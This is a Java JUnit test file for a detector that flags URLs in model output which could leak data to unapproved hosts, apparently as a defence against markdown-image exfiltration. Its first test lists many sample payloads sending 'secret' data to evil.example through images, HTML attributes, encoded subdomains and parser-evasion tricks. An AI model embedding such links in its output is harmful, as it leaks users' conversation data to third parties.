package io.ledgerline.inspection.output;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class LinksTest {
  private static final Links LINKS = new Links(Set.of("threadco.example"));

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://evil.example/p?q=secret)",
        "<img src=\"https://evil.example/p?d=1\">",
        "[click](https://evil.example/?data=c2VjcmV0LXZhbHVlLXRoYXQtaXMtbG9uZy1lbm91Z2gtdG8tY291bnQ)",
        "https://evil.example/c2VjcmV0IHZhbHVlIHRoYXQgaXMgbG9uZyBlbm91Z2ggdG8gY291bnQ",
        "https://evil.example/{conversation}",
        "https://user@evil.example/?x={a}",
        "\n[img]: https://evil.example/a?b=c",
        "https://dGhpcyBpcyBzZWNyZXQgZGF0YSBpbiBhIG5hbWUgMTIz.evil.example/",
        "HTTPS://EVIL.EXAMPLE/{X}",
        "![x](https:/evil.example/?q=secret)",
        "![x](https:\\\\evil.example/?q=secret)",
        "![x](//evil.example/?q=secret)",
        "![x](/\\evil.example/?q=secret)",
        "<img src=\"//evil.example/?q=secret\">",
        "\n[img]: //evil.example/?q=secret",
        "<img src=\"https://evil.example\\@threadco.example/?q=secret\">",
        "![x](https://threadco.example\\.evil.example/?q=secret)",
        "![x](https://evil.example/'?q=secret)",
        "![x](https://evil.example/\"?q=secret)",
        "![x](https://evil.example/(a)?q=secret)",
        "![x](https://evil.example/a\\)?q=secret)",
        "![x](https://evil.example/?secret)",
        "![a [b] c](https://evil.example/?q=secret)",
        "![a\\](b](https://evil.example/?q=secret)",
        "<audio src='https://evil.example/?q=secret'>",
        "<td background=\"https://evil.example/?q=secret\">",
        "<p style=\"background:url('https://evil.example/?q=secret')\">"
      })
  void findsAddressesThatCarryDataAway(String answer) {
    assertThat(LINKS.find("See " + answer + " now")).hasSize(1);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "https://docs.example/guide/getting-started",
        "[docs](https://docs.example/search?q=size)",
        "![logo](https://cdn.example/logo.png)",
        "![x](https://threadco.example/p?q=1)",
        "https://shop.threadco.example/{id}",
        "at 10:30 we meet: room 4",
        "x = 1; // https: see ?q=1",
        "(//a comment?x=1 or \"//\")",
        "[a](https://docs.example/x?a=1) ![b](b.png?v=1)",
        "<a href=\"https://docs.example/search?q=size\">",
        "https://docs.example/a-very-long-title-of-an-article-about-garden-furniture"
      })
  void leavesOrdinaryAndAllowedAddressesAlone(String answer) {
    assertThat(LINKS.find("See " + answer + " now")).isEmpty();
  }

  @Test
  void tellsImagesFromLinksAndWhereTheyStand() {
    OutputFinding image = LINKS.find("a ![x](https://e.example/?q=1) b").getFirst();
    assertThat(image.kind()).isEqualTo(OutputFinding.Kind.EXFILTRATING_IMAGE);
    assertThat(image.start()).isEqualTo(7);
    assertThat(image.end()).isEqualTo(29);
  }

  @Test
  void isNotFooledByAnAllowedNameInsideAForeignHost() {
    assertThat(LINKS.find("https://threadco.example.evil.example/{x}")).hasSize(1);
    assertThat(LINKS.find("https://notthreadco.example/{x}")).hasSize(1);
  }
}
